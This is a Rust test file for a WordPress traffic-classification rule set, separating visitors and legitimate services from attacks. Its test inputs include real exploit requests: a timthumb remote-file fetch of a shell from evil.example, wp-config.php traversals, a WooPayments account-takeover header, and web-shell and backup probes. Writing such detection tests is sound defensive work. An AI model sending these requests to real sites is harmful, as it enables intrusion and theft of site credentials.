//! Unit tests of the WordPress rule set with realistic requests.

use super::Wordpress;
use botgate_ruleset_sdk::Category::*;
use botgate_ruleset_sdk::testing::*;

const SITE_UA: &str = "WordPress/6.5.2; https://www.example.com";
const BASIC: &str = "Basic YWRtaW46YWJjZCBlZmdoIGlqa2wgbW5vcCBxcnN0IHV2d3g=";
const SCRIPT_UA: &str = "python-requests/2.31.0";

// --- Visitors: left to the classifier. ---

#[test]
fn no_opinion_outside_the_scope_on_generated_requests() {
    assert_scope_holds::<Wordpress>(env!("CARGO_MANIFEST_DIR"), 50_000);
}

#[test]
fn ordinary_pages_are_outside_the_scope() {
    assert_outside_scope::<Wordpress>(ORDINARY_PAGES);
}

#[test]
fn static_assets_are_outside_the_scope() {
    // Assets are most of a site's traffic and no rule answers them, nor a browser
    // opening the login page or the admin.
    assert_outside_scope::<Wordpress>(&[
        "/wp-content/themes/twentytwentyfour/style.css?ver=1.1",
        "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
        "/wp-content/uploads/2024/06/photo.jpg",
        "/wp-content/plugins/woocommerce/assets/css/woocommerce.css",
        "/wp-content/plugins/woocommerce/assets/js/frontend/cart-fragments.min.js?ver=8.9.3",
        "/wp-content/themes/twentytwentyfour/assets/fonts/inter/Inter-VariableFont_slnt,wght.woff2",
        "/wp-content/uploads/2024/06/photo-1024x768.webp",
        "/wp-content/uploads/elementor/css/post-12.css?ver=1718000000",
        "/wp-content/plugins/revslider/public/assets/js/rbtools.min.js?ver=6.6.20",
        "/wp-includes/css/dist/block-library/style.min.css?ver=6.5.4",
        "/wp-includes/js/wp-emoji-release.min.js?ver=6.5.4",
        "/wp-includes/images/w-logo-blue-white-bg.png",
        "/wp-admin/css/login.min.css?ver=6.5.4",
        "/wp-login.php",
        "/wp-login.php?action=lostpassword",
        "/wp-admin/",
        "/wp-admin/admin-ajax.php?action=heartbeat",
    ]);
}

#[test]
fn browser_reading_a_post_is_left_alone() {
    assert_category::<Wordpress>(get("/2024/05/hello-world/").browser(), None);
}

#[test]
fn theme_and_upload_assets_are_left_alone() {
    assert_category::<Wordpress>(
        get("/wp-content/themes/twentytwentyfour/style.css?ver=1.1").browser(),
        None,
    );
    assert_category::<Wordpress>(
        get("/wp-content/uploads/2024/05/header.jpg").browser(),
        None,
    );
}

#[test]
fn a_single_browser_login_is_not_an_attack() {
    assert_category::<Wordpress>(post("/wp-login.php").browser(), None);
}

#[test]
fn a_browser_comment_with_origin_is_fine() {
    assert_category::<Wordpress>(
        post("/wp-comments-post.php")
            .browser()
            .header("origin", "https://www.example.com")
            .header("referer", "https://www.example.com/2024/05/hello-world/"),
        None,
    );
}

#[test]
fn an_admin_running_the_database_upgrade_in_a_browser_is_fine() {
    assert_category::<Wordpress>(
        get("/wp-admin/upgrade.php?_wp_http_referer=%2Fwp-admin%2F").browser(),
        None,
    );
}

#[test]
fn the_block_editor_listing_authors_is_fine() {
    assert_category::<Wordpress>(
        get("/wp-json/wp/v2/users?context=view&who=authors&per_page=100")
            .browser()
            .header("x-wp-nonce", "5b2f1c9a7e"),
        None,
    );
}

#[test]
fn an_unrelated_api_path_is_left_alone() {
    assert_category::<Wordpress>(get("/api/v1/status").machine("curl/8.5.0"), None);
}

#[test]
fn a_tutorial_post_or_search_about_wp_config_is_not_a_probe() {
    assert_category::<Wordpress>(get("/how-to-edit-wp-config-php").browser(), None);
    assert_category::<Wordpress>(get("/wp-config-explained").browser(), None);
    assert_category::<Wordpress>(get("/?s=wp-config.php+permissions").browser(), None);
}

// --- Legitimate machine clients: services and payments. ---

#[test]
fn wp_cron_loopback_with_the_sites_own_agent_is_a_service() {
    assert_category::<Wordpress>(
        post("/wp-cron.php?doing_wp_cron=1718000000.1234560000").machine(SITE_UA),
        Some(ServicesAndPayments),
    );
}

#[test]
fn wp_cron_from_a_system_crontab_on_the_private_network_is_a_service() {
    assert_category::<Wordpress>(
        get("/wp-cron.php?doing_wp_cron")
            .machine("Wget/1.21.4")
            .ip("10.0.0.5"),
        Some(ServicesAndPayments),
    );
}

#[test]
fn the_sites_own_agent_from_the_private_network_is_a_service_on_any_page() {
    assert_category::<Wordpress>(
        get("/2024/05/hello-world/").machine(SITE_UA).ip("10.0.0.5"),
        Some(ServicesAndPayments),
    );
}

#[test]
fn jetpack_signed_request_is_a_service() {
    assert_category::<Wordpress>(
        post("/xmlrpc.php?for=jetpack&token=Xy12%3A1%3A3&timestamp=1718000000&nonce=aB3dE5&body-hash=Zm9v&signature=c2lnbmF0dXJl")
            .machine("Jetpack by WordPress.com")
            .ip("192.0.84.10"),
        Some(ServicesAndPayments),
    );
}

#[test]
fn rest_api_with_an_application_password_is_a_service() {
    assert_category::<Wordpress>(
        post("/wp-json/wp/v2/posts")
            .machine(SCRIPT_UA)
            .header("authorization", BASIC),
        Some(ServicesAndPayments),
    );
    assert_category::<Wordpress>(
        get("/?rest_route=/wp/v2/media")
            .machine("n8n")
            .header("authorization", BASIC),
        Some(ServicesAndPayments),
    );
}

#[test]
fn woocommerce_stripe_webhook_with_signature_is_a_payment() {
    assert_category::<Wordpress>(
        post("/?wc-api=wc_stripe")
            .machine("Stripe/1.0 (+https://stripe.com/docs/webhooks)")
            .header("content-type", "application/json; charset=utf-8")
            .header(
                "stripe-signature",
                "t=1718000000,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff536d0ce8e108d8bd",
            ),
        Some(ServicesAndPayments),
    );
}

#[test]
fn woocommerce_paypal_ipn_is_a_payment() {
    assert_category::<Wordpress>(
        post("/?wc-api=WC_Gateway_Paypal")
            .machine("PayPal IPN ( https://www.paypal.com/ipn )")
            .header("content-type", "application/x-www-form-urlencoded"),
        Some(ServicesAndPayments),
    );
}

#[test]
fn woocommerce_paypal_payments_webhook_is_a_payment() {
    assert_category::<Wordpress>(
        post("/wp-json/paypal/v1/incoming")
            .machine("PayPal/AUHD-214.0-58433148")
            .header("paypal-transmission-id", "69cd13f0-d67a-11e5-baa3-778b53f4ae55")
            .header("paypal-transmission-time", "2024-06-10T07:05:27Z")
            .header("paypal-transmission-sig", "lmI95Jx3Y9nhR5SJWlHVIWpg4AgFk7n9bCHSRxbrd8A9zrhdu2rMyFrmz+Zjh3s3boXB07VXCXUZy/UFzUlnGJn0wDugt7FlSvdKeIJenLRemUxYCPVoEZzg9VFNqOa48gMkvF+XTpxBeUx/kWy6B5cp7GkT2+pOowfRK7OaynuxUoKW3JcMWw272VKjLTtTAShncla7tGF+55rxyt2KNZIIqxNMJ48RDZheGU5w1npu9dZHnPgTXB9iomeVRoD8O/jhRpnKsGrDschyNdkeh81BJJMH4Ctc6lnCCquoP/GzCzz33MMsNdid7vL/NIWaCsekQpW26FpWPi/tfj8nLA==")
            .header("paypal-cert-url", "https://api.paypal.com/v1/notifications/certs/CERT-360caa42-fca2a594-1d93a270"),
        Some(ServicesAndPayments),
    );
}

#[test]
fn wordpress_mobile_app_on_the_rest_api_is_a_service() {
    assert_category::<Wordpress>(
        get("/wp-json/wp/v2/posts?context=edit&status=draft")
            .machine("wp-iphone/24.9")
            .header("authorization", BASIC),
        Some(ServicesAndPayments),
    );
}

#[test]
fn wordpress_mobile_app_publishing_over_xmlrpc_is_a_service() {
    assert_category::<Wordpress>(
        post("/xmlrpc.php").machine("wp-android/24.8"),
        Some(ServicesAndPayments),
    );
}

#[test]
fn feed_reader_polling_the_feed_is_a_service() {
    assert_category::<Wordpress>(
        get("/feed/").machine("Feedly/1.0 (+http://www.feedly.com/fetcher.html; 42 subscribers)"),
        Some(ServicesAndPayments),
    );
}

// --- Payment and API paths without the client's marks: not services. ---

#[test]
fn stripe_webhook_path_without_signature_is_not_a_payment() {
    assert_category::<Wordpress>(
        post("/?wc-api=wc_stripe").machine("Stripe/1.0 (+https://stripe.com/docs/webhooks)"),
        None,
    );
}

#[test]
fn paypal_ipn_path_from_a_script_is_not_a_payment() {
    assert_category::<Wordpress>(post("/wc-api/WC_Gateway_Paypal/").machine(SCRIPT_UA), None);
}

#[test]
fn spoofed_jetpack_agent_without_signature_brute_forcing_xmlrpc_is_an_attack() {
    assert_category::<Wordpress>(
        post("/xmlrpc.php?for=jetpack")
            .machine("Jetpack by WordPress.com")
            .behaviour(30, 1, 0),
        Some(SecurityIssues),
    );
}

#[test]
fn spoofed_site_agent_flooding_wp_cron_is_an_attack() {
    assert_category::<Wordpress>(
        get("/wp-cron.php").machine(SITE_UA).behaviour(200, 1, 0),
        Some(SecurityIssues),
    );
}

#[test]
fn foreign_wordpress_agent_on_wp_cron_is_not_a_service() {
    assert_category::<Wordpress>(
        post("/wp-cron.php").machine("WordPress/6.5.2; https://www.example.com.attacker.net"),
        None,
    );
}

// --- Leaked files, installers and exploit paths: security issues. ---

#[test]
fn wp_config_backups_and_swap_files_are_probes() {
    for path in [
        "/wp-config.php.bak",
        "/wp-config.php~",
        "/.wp-config.php.swp",
        "/blog/wp-config.old",
        "/wp-config.php.save",
        "/WP-CONFIG.PHP.ORIG",
    ] {
        assert_category::<Wordpress>(get(path).browser(), Some(SecurityIssues));
    }
}

#[test]
fn wp_config_itself_is_a_probe() {
    assert_category::<Wordpress>(
        get("/wp-config.php").machine("curl/8.5.0"),
        Some(SecurityIssues),
    );
}

#[test]
fn debug_log_and_backup_archives_are_probes() {
    assert_category::<Wordpress>(get("/wp-content/debug.log"), Some(SecurityIssues));
    assert_category::<Wordpress>(
        get("/wp-content/ai1wm-backups/www.example.com-20240501-101010-123.wpress"),
        Some(SecurityIssues),
    );
    assert_category::<Wordpress>(
        get("/wp-content/updraft/backup_2024-05-01-1010_Example_db.gz"),
        Some(SecurityIssues),
    );
    assert_category::<Wordpress>(get("/installer-backup.php"), Some(SecurityIssues));
}

#[test]
fn dumps_archives_and_backup_folders_under_wp_content_are_probes() {
    for path in [
        "/wp-content/example_db.sql",
        "/wp-content/uploads/dump.sql.gz",
        "/wp-content/uploads/www.example.com-20240501-101010-123.wpress",
        "/wp-content/ai1wm-backups/",
        "/wp-content/uploads/wc-logs/fatal-errors-2024-05-01-abc123.log",
        "/wp-content/backups-dup-lite/20240501_example_archive.zip",
        "/wp-content/backups-dup-pro/20240501_example_installer.php.bak",
        "/wp-content/backup-db/example_wp_20240501.zip",
        "/wp-content/uploads/backwpup-1a2b3c-backups/2024-05-01_10-10-10_EXAMPLE.zip",
        "/wp-content/uploads/backup-guard/sg_backup_20240501.sgbp",
    ] {
        assert_category::<Wordpress>(get(path).machine(SCRIPT_UA), Some(SecurityIssues));
    }
}

#[test]
fn installer_and_setup_scripts_are_probes_from_scripts() {
    // An administrator installs with a browser.
    assert_category::<Wordpress>(get("/wp-admin/setup-config.php?step=1").browser(), None);
    assert_category::<Wordpress>(
        get("/wp-admin/setup-config.php?step=1").machine(SCRIPT_UA),
        Some(SecurityIssues),
    );
    assert_category::<Wordpress>(
        post("/wordpress/wp-admin/install.php?step=2").machine(SCRIPT_UA),
        Some(SecurityIssues),
    );
}

#[test]
fn maintenance_scripts_from_a_script_are_probes() {
    assert_category::<Wordpress>(
        get("/wp-admin/upgrade.php").machine(SCRIPT_UA),
        Some(SecurityIssues),
    );
    assert_category::<Wordpress>(
        get("/wp-admin/maint/repair.php?repair=1").machine(SCRIPT_UA),
        Some(SecurityIssues),
    );
}

#[test]
fn php_in_uploads_is_a_web_shell_probe() {
    assert_category::<Wordpress>(
        get("/wp-content/uploads/2024/05/wso.php").browser(),
        Some(SecurityIssues),
    );
}

#[test]
fn file_manager_connector_exploit_is_an_attack() {
    assert_category::<Wordpress>(
        post("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php")
            .machine(SCRIPT_UA),
        Some(SecurityIssues),
    );
}

#[test]
fn plugin_exploit_paths_that_are_not_php_files_are_attacks() {
    for path in [
        "/wp-content/plugins/wp-file-manager/lib/files/",
        "/wp-content/plugins/revslider/temp/update_extract/revslider/",
        "/wp-content/plugins/mail-masta/inc/",
        "/wp-content/plugins/formcraft/file-upload/server/php/",
        "/wp-content/plugins/wp-symposium/server/php/",
        "/wp-content/plugins/easy-wp-smtp/5f0e1d2c3b4a5_debug_log.txt",
    ] {
        assert_category::<Wordpress>(get(path).machine(SCRIPT_UA), Some(SecurityIssues));
    }
}

#[test]
fn timthumb_fetching_a_remote_file_is_an_attack() {
    assert_category::<Wordpress>(
        get("/wp-content/themes/old-theme/timthumb.php?src=http://evil.example/shell.php")
            .machine(SCRIPT_UA),
        Some(SecurityIssues),
    );
}

#[test]
fn revslider_config_download_is_an_attack() {
    assert_category::<Wordpress>(
        get("/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php"),
        Some(SecurityIssues),
    );
}

#[test]
fn encoded_config_traversal_in_a_query_is_an_attack() {
    assert_category::<Wordpress>(
        get("/wp-content/plugins/some-plugin/download.php?file=..%2F..%2F..%2Fwp-config.php"),
        Some(SecurityIssues),
    );
}

#[test]
fn woopayments_account_takeover_header_is_an_attack() {
    assert_category::<Wordpress>(
        post("/wp-json/wp/v2/users")
            .machine(SCRIPT_UA)
            .header("x-wcpay-platform-checkout-user", "1"),
        Some(SecurityIssues),
    );
}

#[test]
fn wlwmanifest_discovery_is_a_probe() {
    assert_category::<Wordpress>(
        get("/blog/wp-includes/wlwmanifest.xml").browser(),
        Some(SecurityIssues),
    );
}

#[test]
fn plugin_readme_fingerprinting_by_a_scanner_is_a_probe() {
    assert_category::<Wordpress>(
        get("/wp-content/plugins/contact-form-7/readme.txt")
            .machine("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
        Some(SecurityIssues),
    );
}

#[test]
fn theme_changelog_fingerprinting_by_a_scanner_is_a_probe() {
    assert_category::<Wordpress>(
        get("/wp-content/themes/astra/changelog.txt").machine(SCRIPT_UA),
        Some(SecurityIssues),
    );
}

// --- Brute force, enumeration and floods: security issues. ---

#[test]
fn login_brute_force_from_a_browser_agent_is_an_attack() {
    assert_category::<Wordpress>(
        post("/wp-login.php").browser().behaviour(40, 2, 0),
        Some(SecurityIssues),
    );
}

#[test]
fn login_brute_force_from_a_script_is_an_attack_sooner() {
    assert_category::<Wordpress>(
        post("/wp-login.php").machine(SCRIPT_UA).behaviour(9, 1, 0),
        Some(SecurityIssues),
    );
}

#[test]
fn a_person_retrying_a_password_while_browsing_is_not_brute_force() {
    assert_category::<Wordpress>(post("/wp-login.php").browser().behaviour(25, 14, 0), None);
}

#[test]
fn xmlrpc_multicall_brute_force_is_an_attack() {
    assert_category::<Wordpress>(
        post("/xmlrpc.php")
            .machine("Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)")
            .header("content-type", "text/xml")
            .behaviour(15, 1, 0),
        Some(SecurityIssues),
    );
}

#[test]
fn app_agent_brute_forcing_xmlrpc_is_still_an_attack() {
    assert_category::<Wordpress>(
        post("/xmlrpc.php")
            .machine("wp-android/24.8")
            .behaviour(50, 1, 0),
        Some(SecurityIssues),
    );
}

#[test]
fn author_id_enumeration_is_an_attack() {
    assert_category::<Wordpress>(get("/?author=3").machine(SCRIPT_UA), Some(SecurityIssues));
    assert_category::<Wordpress>(
        get("/?author=7").browser().behaviour(30, 1, 0),
        Some(SecurityIssues),
    );
}

#[test]
fn a_visitor_clicking_an_author_link_is_fine() {
    assert_category::<Wordpress>(get("/?author=2").browser(), None);
}

#[test]
fn rest_users_enumeration_without_credentials_is_an_attack() {
    assert_category::<Wordpress>(
        get("/wp-json/wp/v2/users?per_page=100").machine("curl/8.5.0"),
        Some(SecurityIssues),
    );
    assert_category::<Wordpress>(
        get("/?rest_route=%2Fwp%2Fv2%2Fusers").machine("Go-http-client/1.1"),
        Some(SecurityIssues),
    );
}

#[test]
fn woocommerce_card_testing_is_an_attack() {
    assert_category::<Wordpress>(
        post("/?wc-ajax=checkout").browser().behaviour(24, 2, 0),
        Some(SecurityIssues),
    );
    assert_category::<Wordpress>(
        post("/wp-json/wc/store/v1/checkout")
            .machine(SCRIPT_UA)
            .behaviour(12, 2, 0),
        Some(SecurityIssues),
    );
}

#[test]
fn pingback_reflection_flood_is_an_attack() {
    assert_category::<Wordpress>(
        get("/?9812734")
            .machine(
                "WordPress/6.4.3; https://blog.example.org; verifying pingback from 198.51.100.7",
            )
            .behaviour(12, 12, 0),
        Some(SecurityIssues),
    );
}

#[test]
fn a_single_pingback_verification_on_any_page_is_suspicious() {
    // ClassicPress keeps WordPress's pingback code but not its agent.
    assert_category::<Wordpress>(
        get("/2024/05/hello-world/").machine(
            "ClassicPress/2.2.0; https://blog.example.net; verifying pingback from 198.51.100.7",
        ),
        Some(SuspiciousBehaviour),
    );
}

// --- Spam and odd clients: suspicious behaviour. ---

#[test]
fn scripted_comment_is_spam() {
    assert_category::<Wordpress>(
        post("/wp-comments-post.php").machine(SCRIPT_UA),
        Some(SuspiciousBehaviour),
    );
}

#[test]
fn comment_burst_from_a_browser_is_spam() {
    assert_category::<Wordpress>(
        post("/wp-comments-post.php")
            .browser()
            .header("origin", "https://www.example.com")
            .behaviour(18, 3, 0),
        Some(SuspiciousBehaviour),
    );
}

#[test]
fn comment_with_a_copied_browser_agent_and_no_origin_is_spam() {
    assert_category::<Wordpress>(
        post("/wp-comments-post.php").ua(CHROME_UA),
        Some(SuspiciousBehaviour),
    );
}

#[test]
fn scripted_registration_is_spam() {
    assert_category::<Wordpress>(
        post("/wp-login.php?action=register").machine("curl/8.5.0"),
        Some(SuspiciousBehaviour),
    );
}

#[test]
fn scripted_multisite_signup_is_spam() {
    assert_category::<Wordpress>(
        post("/wp-signup.php").machine("curl/8.5.0"),
        Some(SuspiciousBehaviour),
    );
}

#[test]
fn password_reset_burst_is_suspicious() {
    assert_category::<Wordpress>(
        post("/wp-login.php?action=lostpassword")
            .browser()
            .behaviour(16, 1, 0),
        Some(SuspiciousBehaviour),
    );
}

#[test]
fn a_browser_agent_posting_xmlrpc_is_suspicious() {
    assert_category::<Wordpress>(
        post("/xmlrpc.php").ua(FIREFOX_UA),
        Some(SuspiciousBehaviour),
    );
}

#[test]
fn a_script_logging_in_once_is_suspicious() {
    assert_category::<Wordpress>(
        post("/wp-login.php").machine(SCRIPT_UA),
        Some(SuspiciousBehaviour),
    );
}

#[test]
fn info_names_the_component_after_the_crate() {
    use botgate_ruleset_sdk::Ruleset;
    assert_eq!(Wordpress::info().name, "wordpress");
}

#[test]
fn sensitive_paths_are_judged_alike_however_spelled() {
    assert_spellings_agree::<Wordpress>(
        |target| get(target).machine("curl/8.5.0"),
        &[
            "/wp-admin/install.php",
            "/wp-admin/setup-config.php",
            "/wp-config.php",
            "/wp-content/debug.log",
        ],
    );
}
